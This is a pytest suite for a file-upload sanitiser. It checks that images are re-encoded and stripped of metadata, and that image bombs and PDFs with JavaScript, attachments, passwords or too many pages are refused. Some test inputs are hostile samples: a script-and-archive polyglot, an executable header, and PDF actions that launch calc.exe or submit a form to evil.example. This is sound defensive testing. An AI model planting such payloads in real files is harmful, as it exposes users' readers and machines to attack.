"""What is taken, what is refused, and what is left of it."""

import time
from contextlib import suppress
from io import BytesIO

import pytest
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image

from engine.platform.files import images, pdfs
from engine.platform.files.errors import (
    ActiveContent,
    Bomb,
    BrokenFile,
    Encrypted,
    FileRefused,
    TooComplex,
    TooManyPages,
)
from engine.platform.files.kinds import kind_of
from tests.engine.platform import samples


def opened(data: bytes) -> Image.Image:
    image = Image.open(BytesIO(data))
    image.load()
    return image


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
def test_an_image_becomes_a_jpeg(kind: str) -> None:
    data = samples.encoded(kind)
    assert kind_of(data) == kind
    kept = images.harmless(data, kind)
    assert (kept.width, kept.height) == (60, 40)
    assert opened(kept.data).format == "JPEG"


def test_heic_makes_the_round_trip() -> None:
    data = samples.heic()
    assert kind_of(data) == "HEIF"
    image = opened(images.harmless(data, "HEIF").data)
    assert image.size == (128, 96)
    red, green, _ = image.getpixel((20, 48))  # type: ignore[misc]
    assert red > 200
    assert green < 60


def test_a_photo_is_turned_upright_and_forgets_where_it_was_taken() -> None:
    kept = images.harmless(samples.photo_with_exif(), "JPEG")
    assert (kept.width, kept.height) == (40, 60)
    assert not opened(kept.data).getexif()
    assert b"PhoneMaker" not in kept.data


def test_transparent_ink_lands_on_white_paper() -> None:
    kept = images.harmless(samples.encoded("PNG", Image.new("RGBA", (8, 8), (0, 0, 0, 0))), "PNG")
    assert opened(kept.data).getpixel((4, 4)) == (255, 255, 255)


def test_a_long_side_is_scaled_down() -> None:
    kept = images.harmless(samples.encoded("PNG", samples.picture(8192, 64)), "PNG")
    assert (kept.width, kept.height) == (4096, 32)


@pytest.mark.parametrize(("width", "height"), [(9_000, 9_000), (65_000, 65_000), (20_000, 4_000)])
def test_a_bomb_is_refused_before_it_is_decoded(width: int, height: int) -> None:
    with pytest.raises(Bomb):
        images.harmless(samples.huge_png(width, height), "PNG")


def test_a_lying_header_is_broken() -> None:
    with pytest.raises(BrokenFile):
        images.harmless(samples.huge_png(4_000, 4_000), "PNG")


@pytest.mark.parametrize("share", [0.1, 0.5, 0.95])
def test_a_truncated_jpeg_is_broken(share: float) -> None:
    data = samples.encoded("JPEG", samples.picture(600, 400))
    with pytest.raises(BrokenFile):
        images.harmless(data[: int(len(data) * share)], "JPEG")


def test_only_pixels_of_a_polyglot_survive() -> None:
    data = samples.encoded("JPEG") + b"<script>alert(1)</script>" + samples.archive()
    kept = images.harmless(data, "JPEG")
    assert b"<script>" not in kept.data
    assert b"PK\x03\x04" not in kept.data


@pytest.mark.parametrize(
    "data",
    [samples.archive(), b"MZ\x90\0" * 20, b"<svg xmlns='http://www.w3.org/2000/svg'/>", b"GIF89a", b" %PDF-1.7"],
)
def test_other_kinds_are_not_known(data: bytes) -> None:
    assert kind_of(data) is None


@given(st.sampled_from(["JPEG", "PNG", "WEBP", "HEIF"]), st.binary(max_size=400), st.integers(8, 60))
def test_noise_after_a_good_beginning_is_refused_or_harmless(kind: str, noise: bytes, cut: int) -> None:
    good = samples.heic() if kind == "HEIF" else samples.encoded(kind)
    try:
        kept = images.harmless(good[:cut] + noise, kind)
    except FileRefused:
        return
    assert opened(kept.data).format == "JPEG"


def test_pages_are_counted() -> None:
    assert pdfs.page_count(samples.pdf(3)) == 3
    assert pdfs.page_count(samples.pdf_with_packed_objects(3, 10)) == 1


def test_a_pdf_that_opens_without_a_password_is_taken() -> None:
    """Education reports are locked against changes, not against reading."""
    assert pdfs.page_count(samples.pdf(locked=True)) == 1


@pytest.mark.parametrize(
    ("data", "refusal"),
    [
        (samples.pdf(javascript=True), ActiveContent),
        (samples.pdf(attached=True), ActiveContent),
        (samples.pdf_with_launch(), ActiveContent),
        (samples.pdf_with_action(b"<</S 5 0 R/F(calc.exe)>>", b"/Launch"), ActiveContent),
        (samples.pdf_with_action(b"<</S 5 0 R/F<</FS/URL/F(https://evil.example)>>>>", b"/SubmitForm"), ActiveContent),
        (samples.pdf_with_action(b"<</S/GoToR/F(x.pdf)/D[0/Fit]>>"), ActiveContent),
        (samples.pdf(password="secret"), Encrypted),
        (samples.pdf(61), TooManyPages),
        (samples.pdf(0), BrokenFile),
        (samples.pdf()[:-60], BrokenFile),
        (samples.pdf() + samples.archive(), BrokenFile),
        (samples.pdf() + b"\0" * 2000, BrokenFile),
        (b"%PDF-1.7\nnothing\n%%EOF", BrokenFile),
        (b"%PDF-", BrokenFile),
        (samples.pdf_with_packed_objects(3, 30_000_000), BrokenFile),
    ],
)
def test_a_pdf_that_is_not_just_pages_is_refused(data: bytes, refusal: type[FileRefused]) -> None:
    with pytest.raises(refusal):
        pdfs.page_count(data)


def test_a_pdf_that_keeps_the_reader_busy_is_given_up(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pdfs, "SECONDS", 0.2)
    began = time.monotonic()
    with pytest.raises(TooComplex):
        pdfs.page_count(samples.pdf_with_packed_objects(60, 990_000))
    assert time.monotonic() - began < 3


def test_a_pdf_of_too_many_objects_is_too_complex(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pdfs, "MAX_OBJECTS", 5)
    with pytest.raises(TooComplex):
        pdfs.page_count(samples.pdf(4))


@given(st.integers(9, 400), st.binary(min_size=1, max_size=12))
def test_a_damaged_pdf_never_raises_anything_else(place: int, noise: bytes) -> None:
    good = samples.pdf()
    with suppress(FileRefused):
        assert pdfs.page_count(good[:place] + noise + good[place + len(noise) :]) >= 1


def test_a_photo_with_damaged_exif_is_refused_in_a_sentence() -> None:
    with pytest.raises(BrokenFile):
        images.harmless(samples.photo_with_damaged_exif(), "JPEG")
